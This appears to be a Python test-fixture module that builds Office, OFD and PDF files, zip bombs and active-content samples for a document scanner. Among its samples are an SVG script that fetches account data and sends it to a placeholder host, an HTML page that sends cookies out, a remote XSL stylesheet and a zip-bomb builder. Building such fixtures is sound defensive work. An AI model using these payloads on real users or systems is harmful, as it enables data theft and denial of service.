"""Generated test files: DOCX, XLSX and OFD written from raw XML (so every location and disguise
can be placed exactly), PDFs from WeasyPrint and pypdf, zip bombs and polyglots. No binaries are
committed; everything is built in memory."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from xml.sax.saxutils import escape

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMESPACES = (
    f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:v="urn:schemas-microsoft-com:vml"'
)
CT_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def p(*runs: str, xml: str = "") -> str:
    """A paragraph; each argument is one run (so `p("机", "密★1年")` splits a marking across runs)."""
    return "<w:p>" + "".join(f'<w:r><w:t xml:space="preserve">{escape(r)}</w:t></w:r>' for r in runs) + xml + "</w:p>"


def table(rows: list[list[str]]) -> str:
    return "<w:tbl>" + "".join(
        "<w:tr>" + "".join(f"<w:tc>{p(cell)}</w:tc>" for cell in row) + "</w:tr>" for row in rows
    ) + "</w:tbl>"


def textbox(*paragraphs: str) -> str:
    """A paragraph anchoring a DrawingML text box (w:txbxContent), as Word 2010+ writes it."""
    return (
        "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"wps\"><w:drawing><wp:anchor><wp:docPr id=\"1\" name=\"tb\"/>"
        "<a:graphic><a:graphicData><wps:wsp><wps:txbx><w:txbxContent>"
        + "".join(paragraphs)
        + "</w:txbxContent></wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:anchor></w:drawing></mc:Choice>"
        "</mc:AlternateContent></w:r></w:p>"
    )


def inserted(text: str) -> str:
    return f'<w:p><w:ins w:id="1" w:author="x" w:date="2026-01-01T00:00:00Z"><w:r><w:t>{escape(text)}</w:t></w:r></w:ins></w:p>'


def story(root: str, inner: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:{root} {NAMESPACES}>{inner}</w:{root}>'


def core_xml(**values: str) -> str:
    fields = "".join(f"<{key}>{escape(value)}</{key}>" for key, value in values.items())
    return (
        '<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/">' + fields + "</cp:coreProperties>"
    )


def custom_xml(**values: str) -> str:
    props = "".join(
        f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="{n}" name="{escape(key)}">'
        f"<vt:lpwstr>{escape(value)}</vt:lpwstr></property>"
        for n, (key, value) in enumerate(values.items(), start=2)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Properties '
        'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">' + props + "</Properties>"
    )


def docx(
    body: str = "",
    *,
    header: str | None = None,
    footer: str | None = None,
    footnotes: str | None = None,
    endnotes: str | None = None,
    comments: str | None = None,
    core: dict | None = None,
    custom: dict | None = None,
    settings: str | None = None,
    main_content_type: str = CT_WORD_MAIN,
    document_rels: list[tuple[str, str, str | None]] = (),
    extra: dict[str, bytes | str] | None = None,
    extra_types: dict[str, str] | None = None,
    document_xml: str | None = None,
    compression=zipfile.ZIP_DEFLATED,
) -> bytes:
    """A Word document. `document_rels`: (type suffix, target, TargetMode or None)."""
    body = body or p("关于做好电子政务应用系统试运行有关工作的通知") + p("各单位要高度重视。")
    overrides = {"/word/document.xml": main_content_type}
    rels = [(f"{REL}/{kind}", target, mode) for kind, target, mode in document_rels]
    parts: dict[str, bytes | str] = {}
    sect = ""
    for kind, name, content, root in (
        ("header", "header1.xml", header, "hdr"), ("footer", "footer1.xml", footer, "ftr"),
        ("footnotes", "footnotes.xml", footnotes, "footnotes"), ("endnotes", "endnotes.xml", endnotes, "endnotes"),
        ("comments", "comments.xml", comments, "comments"), ("settings", "settings.xml", settings, "settings"),
    ):
        if content is None:
            continue
        if root in ("footnotes", "endnotes"):
            inner = f'<w:{root[:-1]} w:id="1">{content}</w:{root[:-1]}>'
        elif root == "comments":
            inner = f'<w:comment w:id="0" w:author="x">{content}</w:comment>'
        else:
            inner = content
        parts[f"word/{name}"] = story(root, inner)
        overrides[f"/word/{name}"] = f"{WML}.{kind}+xml"
        rel_id = f"rIdX{len(rels)}"
        rels.append((f"{REL}/{kind}", name, None))
        if kind == "header":
            sect += f'<w:headerReference w:type="default" r:id="{rel_id}"/>'
        if kind == "footer":
            sect += f'<w:footerReference w:type="default" r:id="{rel_id}"/>'
    document = document_xml or story("document", f"<w:body>{body}<w:sectPr>{sect}</w:sectPr></w:body>")
    package_rels = [(f"{REL}/officeDocument", "word/document.xml")]
    if core is not None:
        parts["docProps/core.xml"] = core_xml(**core)
        overrides["/docProps/core.xml"] = "application/vnd.openxmlformats-package.core-properties+xml"
        package_rels.append(("http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
                             "docProps/core.xml"))
    if custom is not None:
        parts["docProps/custom.xml"] = custom_xml(**custom)
        overrides["/docProps/custom.xml"] = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
        package_rels.append((f"{REL}/custom-properties", "docProps/custom.xml"))
    overrides.update(extra_types or {})
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        + "".join(f'<Override PartName="{name}" ContentType="{ct}"/>' for name, ct in overrides.items())
        + "</Types>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", _rels([(t, target, None) for t, target in package_rels]))
        archive.writestr("word/document.xml", document)
        archive.writestr("word/_rels/document.xml.rels", _rels(rels))
        for name, content in {**parts, **(extra or {})}.items():
            archive.writestr(name, content)
    return out.getvalue()


def _rels(items) -> str:
    body = "".join(
        f'<Relationship Id="rIdX{n}" Type="{kind}" Target="{escape(target)}"'
        + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for n, (kind, target, mode) in enumerate(items)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}">{body}</Relationships>'


# --- XLSX -----------------------------------------------------------------------------------------
def xlsx(rows: list[list[str]], *, shared_only: bool = True, header_footer: str = "", core: dict | None = None) -> bytes:
    strings: list[str] = []
    sheet_rows = []
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row):
            ref = f"{chr(65 + c)}{r}"
            if shared_only:
                strings.append(value)
                cells.append(f'<c r="{ref}" t="s"><v>{len(strings) - 1}</v></c>')
            else:
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>')
        sheet_rows.append(f'<row r="{r}">{"".join(cells)}</row>')
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    hf = f"<headerFooter><oddHeader>{escape(header_footer)}</oddHeader></headerFooter>" if header_footer else ""
    sheet = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{main}"><sheetData>{"".join(sheet_rows)}</sheetData>{hf}</worksheet>'
    shared = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{main}">'
              + "".join(f"<si><t>{escape(s)}</t></si>" for s in strings) + "</sst>")
    workbook = (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{main}" xmlns:r="{R_NS}"><sheets>'
                '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
    sml = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{sml}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{sml}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{sml}.sharedStrings+xml"/>'
        + ('<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
           if core else "")
        + "</Types>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", _rels([(f"{REL}/officeDocument", "xl/workbook.xml", None)]))
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", _rels([(f"{REL}/worksheet", "worksheets/sheet1.xml", None),
                                                              (f"{REL}/sharedStrings", "sharedStrings.xml", None)]))
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        archive.writestr("xl/sharedStrings.xml", shared)
        if core:
            archive.writestr("docProps/core.xml", core_xml(**core))
    return out.getvalue()


# --- OFD ------------------------------------------------------------------------------------------
OFD_NS = "http://www.ofdspec.org/2016"


def ofd_page(runs: list[tuple[float, float, str]], *, images: int = 0) -> str:
    """A page: each run (x, y, text) is one TextObject with one TextCode (mm)."""
    objects = "".join(
        f'<ofd:TextObject ID="{n + 10}" Boundary="{x} {y} 150 8" Font="3" Size="5.6">'
        f'<ofd:TextCode X="0" Y="6">{escape(text)}</ofd:TextCode></ofd:TextObject>'
        for n, (x, y, text) in enumerate(runs)
    ) + "".join(f'<ofd:ImageObject ID="{900 + n}" Boundary="0 0 210 297" ResourceID="99"/>' for n in range(images))
    return (f'<?xml version="1.0" encoding="UTF-8"?><ofd:Page xmlns:ofd="{OFD_NS}"><ofd:Content>'
            f'<ofd:Layer ID="2">{objects}</ofd:Layer></ofd:Content></ofd:Page>')


def ofd(pages: list[list[tuple[float, float, str]]], *, title: str = "测试文档", template: list | None = None,
        extra: dict[str, bytes | str] | None = None, page_images: int = 0) -> bytes:
    out = io.BytesIO()
    page_list = "".join(f'<ofd:Page ID="{n + 1}" BaseLoc="Pages/Page_{n}/Content.xml"/>' for n in range(len(pages)))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("OFD.xml", (
            f'<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="{OFD_NS}" Version="1.0" DocType="OFD"><ofd:DocBody>'
            f"<ofd:DocInfo><ofd:DocID>0C1D4F7159954EEEDE517F7285E84DC4</ofd:DocID><ofd:Title>{escape(title)}</ofd:Title>"
            "<ofd:Author>测试</ofd:Author></ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
        ))
        archive.writestr("Doc_0/Document.xml", (
            f'<?xml version="1.0" encoding="UTF-8"?><ofd:Document xmlns:ofd="{OFD_NS}"><ofd:CommonData>'
            '<ofd:MaxUnitID>1000</ofd:MaxUnitID><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea>'
            f"</ofd:CommonData><ofd:Pages>{page_list}</ofd:Pages></ofd:Document>"
        ))
        for n, runs in enumerate(pages):
            archive.writestr(f"Doc_0/Pages/Page_{n}/Content.xml", ofd_page(runs, images=page_images))
        if template is not None:
            archive.writestr("Doc_0/Tpls/Tpl_0/Content.xml", ofd_page(template))
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


# --- PDF ------------------------------------------------------------------------------------------
PDF_CSS = "@page { size: A4; margin: 20mm } body { font-family: 'Noto Serif CJK SC', serif; font-size: 14pt }"


def pdf_from_html(body_html: str, *, title: str = "") -> bytes:
    from weasyprint import HTML

    head = f"<title>{escape(title)}</title>" if title else ""
    return HTML(string=f"<html><head><meta charset='utf-8'>{head}<style>{PDF_CSS}</style></head><body>{body_html}</body></html>").write_pdf()


def pdf_text(*lines: str, title: str = "") -> bytes:
    return pdf_from_html("".join(f"<p>{escape(line)}</p>" for line in lines), title=title)


def pdf_image_only() -> bytes:
    return pdf_from_html(f'<img src="data:image/png;base64,{base64.b64encode(png(400, 300)).decode()}" style="width:150mm">')


def pdf_rewrite(pdf: bytes, change) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_encrypted(pdf: bytes, user_password: str = "") -> bytes:
    return pdf_rewrite(pdf, lambda w: w.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128"))


def pdf_with_js(pdf: bytes) -> bytes:
    from pypdf.actions import JavaScript

    return pdf_rewrite(pdf, lambda w: w.add_open_action(JavaScript("app.alert('hello');")))


def pdf_with_attachment(pdf: bytes, name: str = "附件.txt", data: bytes = b"hello") -> bytes:
    return pdf_rewrite(pdf, lambda w: w.add_attachment(name, data))


# --- images, bombs, polyglots ---------------------------------------------------------------------
def png(width: int = 16, height: int = 16, *, text: dict[str, str] | None = None) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + bytes([(x * 7 + y * 3) % 256 for x in range(width)]) for y in range(height))
    chunks = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    for key, value in (text or {}).items():
        chunks += chunk(b"iTXt", key.encode() + b"\0\0\0\0\0" + value.encode("utf-8"))
    return b"\x89PNG\r\n\x1a\n" + chunks + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def zip_bomb(entries: int = 1, size: int = 500 * 1024 * 1024) -> bytes:
    """`entries` deflated entries of `size` zero bytes each, built without holding them in memory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        block = b"\0" * (1024 * 1024)
        for n in range(entries):
            with archive.open(f"word/bomb{n}.xml", "w", force_zip64=False) as stream:
                for _ in range(size // len(block)):
                    stream.write(block)
    return out.getvalue()


def many_entries(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for n in range(count):
            archive.writestr(f"e{n}", b"")
    return out.getvalue()


def legacy_doc() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "WordDocument".encode("utf-16-le") + b"\0" * 1000


def encrypted_ooxml() -> bytes:
    """What Office writes for a .docx with an open password: an OLE2 container with EncryptionInfo
    and EncryptedPackage streams (the directory entries are what we need here)."""
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptionInfo".encode("utf-16-le") + b"\0" * 50
            + "EncryptedPackage".encode("utf-16-le") + b"\0" * 2000)


# --- active content: what a browser, a script host or an XML processor runs ------------------------
SVG_WITH_SCRIPT = (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                   b'<script>fetch("/api/v1/me/").then(r=>r.text()).then(t=>new Image().src="//x/?"+t)</script>'
                   b'<rect width="10" height="10"/></svg>')
SVG_PLAIN = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle r="4" cx="5" cy="5"/></svg>'
HTML_PAGE = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>关于做好试运行工作的通知</title></head>"
             "<body><p>各单位：</p><script>document.location='//x/?'+document.cookie</script></body></html>").encode()
XML_WITH_SCRIPT = (b'<?xml version="1.0"?>\n<report><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'
                   b"<item>1</item></report>")
XML_STYLESHEET = b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/x.xsl"?>\n<data/>'
XML_PLAIN = '<?xml version="1.0" encoding="UTF-8"?>\n<名单><人员>张三</人员></名单>'.encode()
JAVASCRIPT = b"// counter\n'use strict';\nfunction run() {\n  alert(document.domain);\n}\nrun();\n"
RTF = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}"
# Plain text that merely uses < and > or talks about web pages: not active content.
TEXT_WITH_BRACKETS = ("关于《网站建设管理办法》的说明\n收入<支出的单位请说明原因，a<b 且 b>c 时按上限计。\n"
                      "请勿在网页中使用脚本。<注意>以上为征求意见稿。").encode()
